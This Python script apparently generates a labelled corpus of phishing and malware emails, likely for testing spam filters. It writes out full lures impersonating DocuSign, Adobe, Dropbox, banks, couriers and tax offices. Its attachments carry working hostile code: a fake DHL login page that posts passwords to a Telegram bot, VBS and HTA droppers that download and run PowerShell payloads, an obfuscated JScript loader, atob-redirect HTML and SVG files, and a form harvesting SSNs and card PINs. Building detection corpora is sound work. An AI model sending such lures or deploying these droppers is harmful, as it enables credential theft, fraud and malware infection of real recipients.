     '<p style="font-size:15px">Inês Carvalho sent you a document to review and sign.</p>'
     '<p style="font-size:18px;font-weight:bold">Contrato_Arrendamento_2027.pdf</p></div>'
     '<div style="padding:24px;font-size:14px"><p><b>For security reasons this document can only be opened on a mobile device.</b></p>'
     '<p>Scan the QR code in the attached image with your phone camera to review and sign. The document expires in 48 hours.</p>'
     '<p style="font-size:12px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure code. '
     'Please do not share this email, link, or access code with others.</p></div></div></body></html>')
att(m, "DocuSign_Review_8841.jpg", QR_DOCUSIGN)
save(m, "spam", "10_docusign_qr_code_jpeg_attached")

# 11 Adobe, "a colleague shared a document", Czech, Azure blob storage
u = "https://adbdocshare2026.blob.core.windows.net/$web/acrobat/index.html#" + b64("ucetni@kovo-brno.cz")
m = base('"Petra Krejčí přes Adobe Acrobat" <servis@autoservis-dolezal.cz>', "ucetni@kovo-brno.cz",
         "Petra Krejčí s Vámi sdílela dokument „Objednávka_2026_1187.pdf“", 22)
both(m, """Adobe Acrobat

Petra Krejčí (servis@autoservis-dolezal.cz) s Vámi sdílela dokument:

Objednávka_2026_1187.pdf (2 stránky, 684 kB)

Zpráva: "Dobrý den, posílám objednávku a fakturu ke kontrole, prosím o potvrzení do zítřka. Díky, Petra"

Otevřít dokument: %s

Pro zobrazení dokumentu se přihlaste svým firemním e-mailem.
Adobe Document Cloud""" % u,
     button_mail("Petra Krejčí s Vámi sdílela dokument",
                 ["<b>Objednávka_2026_1187.pdf</b> (2 stránky, 684 kB)",
                  "Zpráva: „Dobrý den, posílám objednávku a fakturu ke kontrole, prosím o potvrzení do zítřka. Díky, Petra“",
                  "Pro zobrazení dokumentu se přihlaste svým firemním e-mailem."],
                 u, "Otevřít", color="#eb1000", logo_text="Adobe Acrobat",
                 footer="Adobe Document Cloud &middot; Adobe Systems Software Ireland Ltd."))
save(m, "spam", "11_adobe_shared_document_cs_azure_blob")

# 12 Dropbox, the same phishing to many recipients in Bcc, Google Cloud Storage
u = "https://storage.googleapis.com/dbx-shared-files-2026/view/index.html?f=" + rhex(20)
m = base('"Dropbox" <office@cedarvalleyplumbing.com>', "undisclosed-recipients:;",
         "Dana Whitaker shared \"Cedar Valley - Invoices & Remittance 2026\" with you", 2)
both(m, """Dropbox

Dana Whitaker shared a folder with you

"Cedar Valley - Invoices & Remittance 2026" (6 files)

Dana said: "Please review the attached remittance and invoices before Monday. Thanks!"

View folder: %s

Enjoy!
The Dropbox team""" % u,
     button_mail("Dana Whitaker shared a folder with you",
                 ["<b>Cedar Valley - Invoices &amp; Remittance 2026</b> (6 files)",
                  "Dana said: \"Please review the attached remittance and invoices before Monday. Thanks!\""],
                 u, "View folder", color="#0061fe", logo_text="Dropbox",
                 footer="&copy; 2026 Dropbox, Inc. &middot; 1800 Owens St, San Francisco, CA 94158"))
save(m, "spam", "12_dropbox_shared_folder_bcc_mass_gcs")

# 13 WeTransfer, Amazon S3
u = "https://wt-transfer-download.s3.eu-west-2.amazonaws.com/downloads/index.html?transfer=%s&email=tom%%40barkers-garden-centre.co.uk" % rhex(24)
m = base('"WeTransfer" <ads@wexburygazette.co.uk>', "tom@barkers-garden-centre.co.uk",
         "ads@wexburygazette.co.uk sent you files via WeTransfer", 35)
both(m, """WeTransfer

ads@wexburygazette.co.uk sent you some files

3 items, 48.2 MB in total - Expires in 3 days

Media_Pack_2027_final.pdf
Contract_Advertising_2027.pdf
Invoice_WG-26-1184.pdf

Message: Hi Tom, please find the final documents for your signature.

Download your files: %s

To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.""" % u,
     button_mail("ads@wexburygazette.co.uk sent you some files",
                 ["3 items, 48.2 MB in total &middot; Expires in 3 days",
                  "Media_Pack_2027_final.pdf<br>Contract_Advertising_2027.pdf<br>Invoice_WG-26-1184.pdf",
                  "<i>Hi Tom, please find the final documents for your signature.</i>"],
                 u, "Get your files", color="#409fff", logo_text="WeTransfer",
                 footer="To make sure our emails arrive, please add noreply@wetransfer.com to your contacts."))
save(m, "spam", "13_wetransfer_files_s3_bucket")

# 14 Zoom "update required", an MSI installer attached and a page on IPFS
u = "https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/zoom-recording.html"
m = base('"Zoom" <hello@quillmetrics.io>', "f.nielsen@nordlys-consult.dk",
         "You missed a Zoom meeting - recording available (update required)", 8)
both(m, """Zoom

You missed a meeting: "Q4 budget review" hosted by Oliver Hart

Duration: 47 minutes
A cloud recording is available for 72 hours.

Your Zoom Workplace app is out of date and cannot play protected recordings. Please install the attached update (ZoomInstallerFull.msi) and then open the recording:

%s

Thank you for choosing Zoom.
Zoom Video Communications, Inc., 55 Almaden Blvd, San Jose, CA 95113""" % u,
     button_mail("You missed a meeting",
                 ["<b>Q4 budget review</b> hosted by Oliver Hart &middot; 47 minutes",
                  "A cloud recording is available for 72 hours.",
                  "Your Zoom Workplace app is out of date and cannot play protected recordings. "
                  "Please install the attached update (ZoomInstallerFull.msi) and then open the recording."],
                 u, "View recording", color="#0b5cff", logo_text="zoom",
                 footer="Zoom Video Communications, Inc., 55 Almaden Blvd, San Jose, CA 95113"))
att(m, "ZoomInstallerFull.msi", ole_bytes(b"Windows Installer" + "Zoom Workplace 6.3.1 Setup".encode("utf-16-le")))
save(m, "spam", "14_zoom_missed_meeting_msi_update_ipfs")

# 15 Teams voicemail, an .htm attachment that redirects with atob()
victim = "j.kraus@kraus-immobilien.de"
page = """<html><head><meta charset="utf-8"><title>Microsoft Teams - Voicemail</title></head>
<body style="font-family:Segoe UI,sans-serif;text-align:center;padding-top:120px">
<p>Audio wird geladen ...</p>
<script>
var _e = "%s";
var _0x1a = ["\\x72\\x65\\x70\\x6c\\x61\\x63\\x65", "%s"];
window.location[_0x1a[0]](atob(_0x1a[1]) + _e);
</script></body></html>""" % (b64(victim), b64("https://teams-voicemail-portal.vercel.app/play/?vm=" + rhex(8) + "&u="))
m = base('"Microsoft Teams" <praxis@tierarzt-kirchberg.de>', victim,
         "Neue Sprachnachricht von +49 6441 874 (0:47 Min.)", 4)
both(m, """Microsoft Teams

Sie haben eine neue Sprachnachricht erhalten.

Von: +49 6441 874****
Länge: 0 Minuten 47 Sekunden
Empfangen: Samstag, 28. November 2026 09:12

Öffnen Sie den Anhang, um die Nachricht abzuspielen.

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052""",
     '<html><body style="font-family:Segoe UI,sans-serif"><div style="max-width:520px;margin:auto;padding:20px;border:1px solid #e1e1e1">'
     '<p style="color:#5b5fc7;font-size:20px;font-weight:600">Microsoft Teams</p>'
     '<p>Sie haben eine neue Sprachnachricht erhalten.</p>'
     '<table style="font-size:14px"><tr><td>Von:</td><td>+49 6441 874****</td></tr><tr><td>Länge:</td><td>0 Minuten 47 Sekunden</td></tr>'
     '<tr><td>Empfangen:</td><td>Samstag, 28. November 2026 09:12</td></tr></table>'
     '<p>Öffnen Sie den Anhang, um die Nachricht abzuspielen.</p>'
     '<p style="font-size:11px;color:#888">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div></body></html>')
att(m, "Sprachnachricht_00-47s_Abspielen.htm", page)
save(m, "spam", "15_teams_voicemail_htm_atob_redirect_vercel")

# 16 HR: salary adjustment and updated handbook, macro documents and a Google Sites page
u = "https://sites.google.com/view/hr-portal-2026-staff/handbook-acknowledgement"
m = base('"Human Resources" <ketoan@maihien-cowork.vn>', "staff@bluelotus-studio.vn",
         "2027 Salary Adjustment & Updated Employee Handbook - acknowledge by Friday", 27)
outlook(m, """Dear Team,

As part of our annual compensation review, salary adjustments for 2027 have been approved and will take effect with the December payroll.

Please review the attached documents:
- Salary_Adjustment_2027.xlsm (your individual adjustment, enable editing and content to view)
- Employee_Handbook_2027.docm (updated policies on remote work, leave and expenses)

All employees must acknowledge the updated handbook on the HR portal by Friday, otherwise the adjustment cannot be processed in this payroll cycle:
%s

Kind regards,
Human Resources Department""" % u, lang="en-us")
att(m, "Salary_Adjustment_2027.xlsm", ooxml("xlsm", macro=True))
att(m, "Employee_Handbook_2027.docm", ooxml("docm", macro=True))
save(m, "spam", "16_hr_salary_adjustment_handbook_docm_xlsm_google_sites")


# ==== bank and payment phishing ==============================================

# 17 French bank, Wix site
u = "https://caverificationclient.wixsite.com/ca-en-ligne?id=" + rhex(10)
m = base('"Crédit Agricole" <jonas.weber@stromrad.de>', "mireille.dupont@orange.fr",
         "Important : votre accès à Crédit Agricole En Ligne est suspendu", 12)
both(m, """Crédit Agricole

Chère cliente, cher client,

Suite à la mise à jour de notre dispositif de sécurité SécuriPass, votre accès à vos comptes en ligne a été temporairement suspendu.

Pour réactiver votre accès et éviter le blocage de votre carte bancaire, veuillez confirmer votre identité avant le 30/11/2026 :

%s

Nous vous remercions de votre confiance.
Le service clientèle Crédit Agricole""" % u,
     button_mail("Votre accès en ligne est suspendu",
                 ["Chère cliente, cher client,",
                  "Suite à la mise à jour de notre dispositif de sécurité <b>SécuriPass</b>, votre accès à vos comptes en ligne a été temporairement suspendu.",
                  "Pour réactiver votre accès et éviter le blocage de votre carte bancaire, veuillez confirmer votre identité avant le <b>30/11/2026</b>."],
                 u, "Réactiver mon accès", color="#006a4e", logo_text="Crédit Agricole",
                 footer="Crédit Agricole S.A. &middot; 12 place des États-Unis, 92127 Montrouge Cedex"))
save(m, "spam", "17_bank_fr_securipass_wix")

# 18 Portuguese bank, through Bing's redirect to a Notion page
tgt = "https://millenniumbcp-seguranca.notion.site/Atualizacao-de-Seguranca-%s" % rhex(32)
u = "https://www.bing.com/ck/a?!&&p=%s&ptn=3&ver=2&hsh=4&fclid=%s&u=a1%s&ntb=1" % (
    rhex(64), uuid.uuid4(), base64.urlsafe_b64encode(tgt.encode()).decode().rstrip("="))
m = base('"Millennium bcp" <geral@costaazul-imoveis.pt>', "jorge.santos@sapo.pt",
         "Millennium bcp: atualização obrigatória dos dados de segurança", 44)
both(m, """Millennium bcp

Estimado(a) Cliente,

Informamos que, de acordo com a nova diretiva europeia de pagamentos (PSD2), é obrigatória a atualização dos seus dados de segurança até 30/11/2026.

Caso não efetue a atualização, o acesso ao Millennium app e aos seus cartões será bloqueado preventivamente.

Atualizar agora: %s

Com os melhores cumprimentos,
Banco Comercial Português, S.A.""" % u,
     button_mail("Atualização obrigatória",
                 ["Estimado(a) Cliente,",
                  "De acordo com a nova diretiva europeia de pagamentos (PSD2), é obrigatória a atualização dos seus dados de segurança até <b>30/11/2026</b>.",
                  "Caso não efetue a atualização, o acesso ao Millennium app e aos seus cartões será bloqueado preventivamente."],
                 u, "Atualizar agora", color="#d1005d", logo_text="Millennium bcp",
                 footer="Banco Comercial Português, S.A. &middot; Praça D. João I, 28, 4000-295 Porto"))
save(m, "spam", "18_bank_pt_bing_redirect_notion")

# 19 Italian bank, an IDN homograph host (Cyrillic o)
host = "www.intesasanpaol\u043e.com"
u = "https://%s/login/sicurezza?id=%s" % (host.encode("idna").decode(), rhex(12))
m = base('"Intesa Sanpaolo" <martin@autoservis-dolezal.cz>', "g.colombo@libero.it",
         "Avviso di sicurezza: rilevato accesso anomalo al tuo conto", 18)
both(m, """Intesa Sanpaolo

Gentile Cliente,

abbiamo rilevato un accesso anomalo al tuo conto da un dispositivo non riconosciuto (Bucarest, Romania) e un bonifico di 1.480,00 EUR in attesa di autorizzazione.

Se non hai effettuato tu questa operazione, accedi subito all'area riservata per bloccarla:
https://%s/login/sicurezza

Il Servizio Clienti Intesa Sanpaolo""" % host,
     button_mail("Accesso anomalo rilevato",
                 ["Gentile Cliente,",
                  "abbiamo rilevato un accesso anomalo al tuo conto da un dispositivo non riconosciuto (Bucarest, Romania) "
                  "e un bonifico di <b>1.480,00 EUR</b> in attesa di autorizzazione.",
                  "Se non hai effettuato tu questa operazione, accedi subito all'area riservata per bloccarla: "
                  '<a href="%s">https://%s/login/sicurezza</a>' % (u, host)],
                 u, "Blocca operazione", color="#00834f", logo_text="Intesa Sanpaolo",
                 footer="Intesa Sanpaolo S.p.A. &middot; Piazza San Carlo 156, 10121 Torino"))
save(m, "spam", "19_bank_it_idn_punycode_homograph")

# 20 Polish bank, Jimdo site
u = "https://pko-weryfikacja-konta.jimdofree.com/"
m = base('"PKO Bank Polski" <info@stromrad.de>', "agnieszka.wojcik@wp.pl",
         "Twoje konto zostało tymczasowo zablokowane", 30)
text_only(m, """PKO Bank Polski

Szanowny Kliencie,

w związku z wykryciem podejrzanej transakcji BLIK na kwotę 2 349,00 zł Twoje konto w serwisie iPKO zostało tymczasowo zablokowane.

Aby odblokować dostęp, potwierdź swoje dane logowania w ciągu 24 godzin:
%s

Jeżeli nie potwierdzisz danych, środki zostaną zablokowane do czasu wyjaśnienia sprawy w oddziale.

Z poważaniem,
Zespół Bezpieczeństwa PKO Bank Polski""" % u)
save(m, "spam", "20_bank_pl_blik_jimdo")

# 21 Czech bank, GoDaddy site builder
u = "https://george-overeni-klienta.godaddysites.com/"
m = base('"Česká spořitelna - George" <servis@autoservis-dolezal.cz>', "pavel.kratochvil@seznam.cz",
         "George: vyžadováno ověření Vaší identity", 50)
both(m, """Česká spořitelna

Vážený kliente,

v souvislosti s novou legislativou AML jsme povinni znovu ověřit totožnost všech uživatelů internetového bankovnictví George.

Ověření proveďte nejpozději do 1. 12. 2026, jinak bude Váš přístup do George a platební karty zablokovány:
%s

Děkujeme za pochopení.
Česká spořitelna, a.s.""" % u,
     button_mail("Ověření identity v George",
                 ["Vážený kliente,",
                  "v souvislosti s novou legislativou AML jsme povinni znovu ověřit totožnost všech uživatelů internetového bankovnictví George.",
                  "Ověření proveďte nejpozději do <b>1. 12. 2026</b>, jinak bude Váš přístup do George a platební karty zablokovány."],
                 u, "Ověřit identitu", color="#0b1f44", logo_text="George &middot; Česká spořitelna",
                 footer="Česká spořitelna, a.s., Olbrachtova 1929/62, 140 00 Praha 4"))
save(m, "spam", "21_bank_cs_george_godaddysites")


# ==== parcel lures ===========================================================

# 22 DHL, an attached web page with a login form
victim = "purchasing@hartmann-feinmechanik.de"
page = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>DHL Express | Shipping Document</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{margin:0;font-family:Arial,sans-serif;background:#f2f2f2}.top{background:#ffcc00;padding:14px 24px;font:bold 26px Arial;color:#d40511}
.box{max-width:380px;margin:60px auto;background:#fff;padding:28px;box-shadow:0 2px 8px #0003}input{width:100%%;padding:10px;margin:8px 0;box-sizing:border-box}
button{width:100%%;padding:12px;background:#d40511;color:#fff;border:0;font-weight:bold}</style></head>
<body><div class="top">DHL</div><div class="box">
<p><b>AWB 7734 1902 55 - Commercial Invoice</b></p>
<p style="font-size:13px">To view the shipping document, confirm your email account password.</p>
<form method="post" action="https://dhl-awb-docs.top/next.php" id="f">
<input type="email" name="login" value="%s" readonly>
<input type="password" name="passwd" placeholder="Email password" required>
<button type="submit">View Document</button></form>
<p style="font-size:11px;color:#777">&copy; 2026 DHL International GmbH. All rights reserved.</p></div>
<script>document.getElementById("f").onsubmit=function(){var x=new XMLHttpRequest();x.open("POST","https://api.telegram.org/bot%s:%s/sendMessage",false);
x.setRequestHeader("Content-Type","application/json");x.send(JSON.stringify({chat_id:"-100%s",text:this.login.value+" | "+this.passwd.value}));};</script>
</body></html>""" % (victim, random.randint(10 ** 9, 10 ** 10), ralnum(35), random.randint(10 ** 9, 10 ** 10))
m = base('"DHL Express" <eleni@elenipapadaki.gr>', victim,
         "DHL Express: shipment on hold - customs invoice attached (AWB 7734190255)", 13)
both(m, """DHL Express

Dear Customer,

Your shipment with waybill number 7734190255 is on hold at the customs facility in Leipzig. The attached commercial invoice must be confirmed by the consignee before the shipment can be released.

Please open the attached document and confirm the delivery details within 48 hours, otherwise the shipment will be returned to the sender.

Thank you for shipping with DHL Express.
DHL Customer Service""",
     '<html><body style="font-family:Arial,sans-serif"><div style="background:#ffcc00;padding:12px 20px;color:#d40511;font-weight:bold;font-size:24px">DHL</div>'
     '<div style="padding:20px"><p>Dear Customer,</p><p>Your shipment with waybill number <b>7734190255</b> is on hold at the customs facility in Leipzig. '
     'The attached commercial invoice must be confirmed by the consignee before the shipment can be released.</p>'
     '<p>Please open the attached document and confirm the delivery details within 48 hours, otherwise the shipment will be returned to the sender.</p>'
     '<p>Thank you for shipping with DHL Express.<br>DHL Customer Service</p></div></body></html>')
att(m, "DHL_AWB_7734190255_Invoice.html", page)
save(m, "spam", "22_dhl_customs_html_attachment_login_form")

# 23 UPS, a PDF that holds only a link
pdfurl = "https://pub-8e2d41c7a9b34f06b1d5e3f2a7c90d14.r2.dev/ups/redelivery.html?trk=1Z8V9%s" % ralnum(11, "0123456789ABCDEFGHJKLMNPRSTUVWXYZ")
m = base('"UPS" <mike@cedarvalleyplumbing.com>', "orders@pinecrest-supply.com",
         "UPS Delivery Notice: we were unable to deliver your package", 24)
text_only(m, """UPS

Dear Customer,

We were unable to deliver your package (tracking number 1Z8V9E470392717745) because the address was incomplete. A redelivery fee of $2.99 applies.

Please open the attached delivery notice (PDF) and schedule a new delivery date. If no action is taken within 3 business days, the package will be returned to the sender.

UPS Customer Service
(c) 2026 United Parcel Service of America, Inc.""")
att(m, "UPS_Delivery_Notice_1Z8V9E47.pdf", pdf_link_only(pdfurl))
save(m, "spam", "23_ups_pdf_attachment_only_link_r2_dev")

# 24 FedEx, an ISO disk image with a shortcut and a script in it
vbs = ('Set s = CreateObject("WScript.Shell")\r\n'
       's.Run "powershell -w hidden -ep bypass -c ""iwr https://fdx-awb-docs.shop/p/awb.ps1 -UseBasicParsing | iex""", 0, False\r\n')
iso = iso_bytes([("AWB771802.LNK", lnk_bytes("/c start /min wscript.exe data.vbs")), ("DATA.VBS", vbs.encode())],
                label="FEDEX_AWB")
m = base('"FedEx Billing" <t.mai@northbridge-translations.co.uk>', "logistics@vanderberg-trading.nl",
         "FedEx: shipping documents and commercial invoice AWB 771802446710", 60)
both(m, """FedEx

Dear Valued Customer,

Please find attached the shipping documents and commercial invoice for your shipment AWB 771802446710. The import duties must be paid before delivery can be arranged.

Kindly open the attached documents, check the details and confirm.

Best regards,
FedEx Billing Department""",
     '<html><body style="font-family:Arial,sans-serif"><p style="font-size:26px;font-weight:bold"><span style="color:#4d148c">Fed</span><span style="color:#ff6600">Ex</span></p>'
     '<p>Dear Valued Customer,</p><p>Please find attached the shipping documents and commercial invoice for your shipment <b>AWB 771802446710</b>. '
     'The import duties must be paid before delivery can be arranged.</p><p>Kindly open the attached documents, check the details and confirm.</p>'
     '<p>Best regards,<br>FedEx Billing Department</p></body></html>')
att(m, "FedEx_Shipping_Docs_AWB771802.iso", iso)
save(m, "spam", "24_fedex_shipping_docs_iso_lnk_vbs")

# 25 GLS, an SVG with a script
svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" viewBox="0 0 800 600">
<rect width="800" height="600" fill="#ffffff"/>
<rect width="800" height="80" fill="#061ab1"/>
<text x="30" y="55" font-family="Arial" font-size="36" font-weight="bold" fill="#ffd100">GLS</text>
<text x="30" y="160" font-family="Arial" font-size="22" fill="#222">Zustellbenachrichtigung wird geladen ...</text>
<script type="text/javascript"><![CDATA[
var k = "%s", r = "%s";
setTimeout(function(){ window.location.href = atob(k) + encodeURIComponent(atob(r)); }, 300);
]]></script>
</svg>
""" % (b64("https://gls-paket-zustellung.info/sendung/?id=82%s&m=" % rhex(6)), b64("info@metzgerei-bauer-kassel.de"))
m = base('"GLS Paketdienst" <f.brandt@tierarzt-kirchberg.de>', "info@metzgerei-bauer-kassel.de",
         "GLS: Ihr Paket 82914407 konnte nicht zugestellt werden", 36)
text_only(m, """GLS Germany

Sehr geehrter Kunde,

wir konnten Ihr Paket 82914407 heute nicht zustellen, da niemand angetroffen wurde. Die Zustellbenachrichtigung mit den Optionen für eine neue Zustellung finden Sie im Anhang.

Bitte wählen Sie innerhalb von 2 Werktagen einen neuen Zustelltermin, andernfalls geht das Paket an den Absender zurück.

Mit freundlichen Grüßen
Ihr GLS Team""")
att(m, "GLS_Zustellbenachrichtigung_82914407.svg", svg)
save(m, "spam", "25_gls_svg_attachment_script")

# 26 Hermes, a disk image (.img) with a program in it
img = iso_bytes([("ZUSTELLBELEG_H1002447.EXE", exe_bytes())], label="HERMES")
m = base('"Hermes Germany" <info@stromrad.de>', "s.lehmann@gmx.de",
         "Ihre Sendung H1002447120: Zustellbeleg zur Bestätigung", 66)
both(m, """Hermes

Hallo,

Ihre Sendung H1002447120 liegt im Hermes PaketShop zur Abholung bereit. Aufgrund einer unvollständigen Adresse benötigen wir Ihre Bestätigung.

Den Zustellbeleg finden Sie im Anhang. Bitte öffnen und bestätigen Sie ihn, um die Sendung freizugeben.

Ihr Hermes Kundenservice""",
     '<html><body style="font-family:Arial,sans-serif"><p style="background:#0091cd;color:#fff;padding:12px 18px;font-size:22px;font-weight:bold">Hermes</p>'
     '<p>Hallo,</p><p>Ihre Sendung <b>H1002447120</b> liegt im Hermes PaketShop zur Abholung bereit. Aufgrund einer unvollständigen Adresse benötigen wir Ihre Bestätigung.</p>'
     '<p>Den Zustellbeleg finden Sie im Anhang. Bitte öffnen und bestätigen Sie ihn, um die Sendung freizugeben.</p><p>Ihr Hermes Kundenservice</p></body></html>')
att(m, "Hermes_Zustellbeleg_H1002447120.img", img)
save(m, "spam", "26_hermes_img_disk_image_exe")

# 27 Royal Mail redelivery fee, a URL with @ in the authority (webflow)
u = "https://www.royalmail.com@redelivery-uk.webflow.io/fee?ref=RM" + ralnum(9, "0123456789")
m = base("Royal Mail <newsroom@wexburygazette.co.uk>", "j.clarke84@btinternet.com",
         "Royal Mail: we tried to deliver your parcel", 5)
text_only(m, """Royal Mail: Your parcel has a £1.45 unpaid shipping fee. We tried to deliver it today but nobody was at home.

Please pay the fee and book a new delivery date at:
%s

If the fee is not paid within 48 hours, your parcel will be returned to the sender.

Royal Mail Group Ltd""" % u)
save(m, "spam", "27_royalmail_fee_at_sign_in_url_webflow")

# 28 Poste Italiane, a RAR with a shortcut and an HTA
hta = """<html><head><HTA:APPLICATION ID="avviso" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript">
Set o = CreateObject("WScript.Shell")
o.Run "cmd /c curl -s -o %TEMP%\\a.ps1 https://poste-giacenza.click/a.ps1 && powershell -ep bypass -w h -f %TEMP%\\a.ps1", 0
self.close
</script></head><body></body></html>
"""
rar = rar_bytes([("Avviso_Giacenza_PI2026.pdf.lnk", lnk_bytes("/c mshta.exe %cd%\\setup.hta")),
                 ("setup.hta", hta.encode())])
m = base('"Poste Italiane" <karin@andrumyoga.se>', "francesca.ricci@libero.it",
         "Avviso di giacenza: il tuo pacco è in attesa di ritiro", 72)
both(m, """Poste Italiane

Gentile cliente,

il tuo pacco (codice spedizione PI2026118834IT) non è stato consegnato per indirizzo incompleto ed è in giacenza presso il nostro centro di smistamento.

Trovi in allegato l'avviso di giacenza. Aprilo e conferma i tuoi dati entro 3 giorni per programmare una nuova consegna; in caso contrario il pacco verrà restituito al mittente.

Cordiali saluti,
Poste Italiane S.p.A.""",
     '<html><body style="font-family:Arial,sans-serif"><p style="background:#ffd400;color:#0a3781;padding:12px 18px;font-size:20px;font-weight:bold">Poste Italiane</p>'
     '<p>Gentile cliente,</p><p>il tuo pacco (codice spedizione <b>PI2026118834IT</b>) non è stato consegnato per indirizzo incompleto ed è in giacenza presso il nostro centro di smistamento.</p>'
     '<p>Trovi in allegato l\'avviso di giacenza. Aprilo e conferma i tuoi dati entro 3 giorni per programmare una nuova consegna.</p>'
     '<p>Cordiali saluti,<br>Poste Italiane S.p.A.</p></body></html>')
att(m, "Avviso_Giacenza_PI2026118834IT.rar", rar)
save(m, "spam", "28_poste_italiane_rar_lnk_hta")

# 29 CTT customs fee, a Canva site
u = "https://ctt-taxas-alfandega.my.canva.site/pagamento"
m = base('"CTT Expresso" <ines.carvalho@costaazul-imoveis.pt>', "rita.ferreira@gmail.com",
         "CTT: a sua encomenda está retida na alfândega", 3)
text_only(m, """CTT Expresso

A sua encomenda RR482193775PT está retida na alfândega. Para proceder à entrega é necessário o pagamento dos direitos aduaneiros no valor de 2,99 EUR.

Efetue o pagamento em: %s

Após 5 dias úteis sem pagamento, a encomenda será devolvida ao remetente.

CTT - Correios de Portugal, S.A.""" % u)
save(m, "spam", "29_ctt_customs_fee_canva_site")


# ==== tax refunds ============================================================

# 30 IRS, an attached .shtml form
shtml = """<!--#config timefmt="%%A, %%B %%d, %%Y" -->
<!DOCTYPE html><html><head><meta charset="utf-8"><title>IRS - Online Refund Form</title>
<style>body{font-family:Arial,sans-serif;background:#f0f0f0}.w{max-width:520px;margin:30px auto;background:#fff;padding:24px}
input{width:100%%;padding:8px;margin:4px 0 12px;box-sizing:border-box}label{font-size:13px}</style></head>
<body><div class="w"><h2 style="color:#00599c">Internal Revenue Service</h2>
<p>Tax Refund Request - Tax Year 2025 - <!--#echo var="DATE_LOCAL" --></p>
<form action="https://irs-refund-claim.online/process.php" method="post">
<label>Full name</label><input name="name"><label>Social Security Number</label><input name="ssn">
<label>Date of birth</label><input name="dob"><label>Card number (refund will be credited)</label><input name="cc">
<label>Expiration</label><input name="exp"><label>CVV</label><input name="cvv"><label>Card PIN</label><input name="pin" type="password">
<input type="submit" value="Submit Refund Request" style="background:#00599c;color:#fff;border:0;padding:12px"></form></div></body></html>
"""
m = base('"IRS e-Services" <office@cedarvalleyplumbing.com>', "rwatkins@comcast.net",
         "Tax Refund Notification: $1,284.60 - action required", 10)
text_only(m, """Internal Revenue Service
United States Department of the Treasury

Dear Taxpayer,

After the last annual calculation of your fiscal activity, we have determined that you are eligible to receive a tax refund of $1,284.60.

Please complete the attached refund form and submit it within 3 business days so we can process your refund. A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.

Regards,
Internal Revenue Service
Refund Department""")
att(m, "IRS_Refund_Form_2025.shtml", shtml.replace("%%", "%"))
save(m, "spam", "30_irs_refund_shtml_attachment_form")

# 31 HMRC, a page under /wp-includes/ of a compromised WordPress site
u = "https://www.abbeyfield-florist.co.uk/wp-includes/js/hmrc/refund/index.php?ref=HMRC%s" % ralnum(8, "0123456789")
m = base('"HM Revenue & Customs" <s.okafor@northbridge-translations.co.uk>', "d.morgan@hotmail.co.uk",
         "HMRC: you are eligible for a tax refund of £687.40", 48)
both(m, """HM Revenue & Customs

Dear Taxpayer,

Our records show that you have overpaid income tax for the 2025-26 tax year. You are eligible for a tax refund of £687.40.

To receive your refund, please submit your claim online within 5 working days:
%s

Reference: HMRC/TR/2026/48812

HM Revenue & Customs""" % u,
     button_mail("You are eligible for a tax refund",
                 ["Dear Taxpayer,", "Our records show that you have overpaid income tax for the 2025-26 tax year. "
                  "You are eligible for a tax refund of <b>£687.40</b>.",
                  "To receive your refund, please submit your claim online within 5 working days.", "Reference: HMRC/TR/2026/48812"],
                 u, "Claim your refund", color="#00703c", logo_text="GOV.UK &middot; HM Revenue &amp; Customs"))
save(m, "spam", "31_hmrc_refund_compromised_wordpress_wp_includes")

# 32 ATO / myGov, an inline QR code (PNG) and "scan"
m = base('"myGov | Australian Taxation Office" <p.sharma@northbridge-translations.co.uk>', "b.wilson@bigpond.com",
         "Your ATO tax refund is ready - verify your identity with myGov", 19)
both(m, """Australian Taxation Office

Dear taxpayer,

Your 2025-26 income tax assessment is complete and a refund of AUD 914.20 is ready to be paid.

Due to new identity verification rules, you must verify your identity in myGov before the refund can be released. Scan the QR code below with your phone camera to verify. This takes less than 2 minutes.

Unverified refunds are cancelled after 7 days.

Australian Taxation Office""",
     '<html><body style="font-family:Arial,sans-serif"><div style="max-width:540px;margin:auto">'
     '<p style="background:#1d1d1d;color:#fff;padding:14px;font-weight:bold">myGov &nbsp;|&nbsp; Australian Taxation Office</p>'
     '<p>Dear taxpayer,</p><p>Your 2025-26 income tax assessment is complete and a refund of <b>AUD 914.20</b> is ready to be paid.</p>'
     '<p>Due to new identity verification rules, you must verify your identity in myGov before the refund can be released. '
     '<b>Scan the QR code below with your phone camera</b> to verify. This takes less than 2 minutes.</p>'
     '<p style="text-align:center"><img src="cid:qr-ato-refund@mygov" width="132" height="132" alt="QR code"></p>'
     '<p>Unverified refunds are cancelled after 7 days.</p><p>Australian Taxation Office</p></div></body></html>')
m.get_body(("html",)).add_related(QR_ATO, maintype="image", subtype="png", cid="<qr-ato-refund@mygov>",
                                  filename="qr.png", disposition="inline")
save(m, "spam", "32_ato_refund_qr_code_inline_png")

# 33 Agenzia delle Entrate, a password-protected zip with a script, password in the text
js = ("var _0x4e=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e'];\n"
      "var s=new ActiveXObject(_0x4e[0]);\n"
      "s[_0x4e[1]]('powershell -w hidden -c \"$u=\\'https://rimborsi-ade.cfd/d/loader.ps1\\';iex(iwr $u -UseBasicParsing)\"',0);\n")
m = base('"Agenzia delle Entrate" <info@nikolai-gemeinde-ms.de>', "marco.gallo@alice.it",
         "Rimborso IRPEF 2025: documentazione protetta", 55)
text_only(m, """Agenzia delle Entrate

Gentile contribuente,

a seguito dei controlli sulla dichiarazione 730/2025 risulta a Suo favore un rimborso IRPEF di 742,00 euro.

In allegato la documentazione per l'accredito. Per motivi di riservatezza l'archivio è protetto.
Password dell'archivio: AE2026

Apra il documento e segua le istruzioni entro 10 giorni.

Cordiali saluti,
Agenzia delle Entrate - Direzione Provinciale""")
att(m, "Rimborso_730_2025.zip", zip_bytes([("Rimborso_730_2025.js", js.encode())], password="AE2026"))
save(m, "spam", "33_agenzia_entrate_refund_password_zip_js")


# ==== malicious attachments without a brand ==================================

